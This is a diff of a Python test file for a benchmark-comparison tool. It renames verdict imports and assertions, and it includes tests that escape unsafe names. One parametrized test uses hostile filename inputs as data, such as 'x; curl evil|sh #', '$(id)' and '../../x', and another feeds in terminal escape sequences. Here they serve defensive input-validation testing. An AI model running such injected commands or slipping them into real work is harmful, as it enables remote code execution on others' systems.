@@ -14,9 +14,9 @@ from benchmarks.__main__ import main
 from benchmarks.commands.selfcheck import clone
 from benchmarks.comparing.records import Judged
 from benchmarks.comparing.saved import RunError, compare_runs, confirm_command, named, read
-from benchmarks.comparing.verdicts import Comparison, Verdict, Word, time
+from benchmarks.comparing.verdicts import Comparison, Status, Verdict, time_metric
 from benchmarks.measuring import environments
-from benchmarks.reporting import markdown, verdicts
+from benchmarks.reporting import markdown, verdict_panel
 from benchmarks.reporting.page import Compared, Report
 from tests import hostile
 from tests.hostile import EPOCH, STEP, row_of, small_run, write
@@ -154,7 +154,7 @@ def test_a_sample_that_is_no_time_makes_its_row_void(value, tmp_path):
     write(path, run)
     judged = shows(read(path), small_run())
     [one] = [o for o in judged if o.comparison.test == STEP and o.comparison.metric.name == "time"]
-    assert one.verdict.word is Word.NOT_COMPARABLE
+    assert one.verdict.status is Status.NOT_COMPARABLE
     summary = Report("run", read(path), {}).markdown()
     assert "void: Keras is void" in summary
 
@@ -167,7 +167,7 @@ def test_rounds_that_one_file_of_a_session_lacks_are_not_paired():
             del row["extra_info"]["blocks"][0], row["stats"]["data"][0]
     judged = compare_runs(other, run, "other", 0.02)
     steps = [one for one in judged if one.comparison.test == STEP]
-    assert {one.verdict.word for one in steps} == {Word.NOT_COMPARABLE}
+    assert {one.verdict.status for one in steps} == {Status.NOT_COMPARABLE}
     assert steps[0].verdict.reason == "block 0 has 1 samples, 2 in other"
 
 
@@ -236,8 +236,8 @@ def test_any_name_is_made_one_of_a_folder(text):
 
 
 def suspect(implementation="pytorch_eager"):
-    comparison = Comparison("train_step[mlp-b128-cpu]", implementation, "o", time(0.02))
-    return Judged(comparison, Verdict(Word.SUSPECT, reason="slower"))
+    comparison = Comparison("train_step[mlp-b128-cpu]", implementation, "o", time_metric(0.02))
+    return Judged(comparison, Verdict(Status.SUSPECT, reason="slower"))
 
 
 @pytest.mark.parametrize("name", ["x; curl evil|sh #", "$(id)", "a b", "..", "../../x", "-rf", ""])
@@ -294,7 +294,9 @@ def test_text_stays_text_in_markdown(text):
 
 def test_a_panel_prints_names_as_they_are(capsys):
     """Neither rich's markup nor a terminal's escapes take effect."""
-    panel = verdicts.panel([suspect("[red]x[/red]\x1b[31m")], "[blink]t\x1b[5m", ["[b]n\x1b]0;"])
+    panel = verdict_panel.panel(
+        [suspect("[red]x[/red]\x1b[31m")], "[blink]t\x1b[5m", ["[b]n\x1b]0;"]
+    )
     Console(width=120, force_terminal=False).print(panel)
     printed = capsys.readouterr().out
     assert "\x1b" not in printed
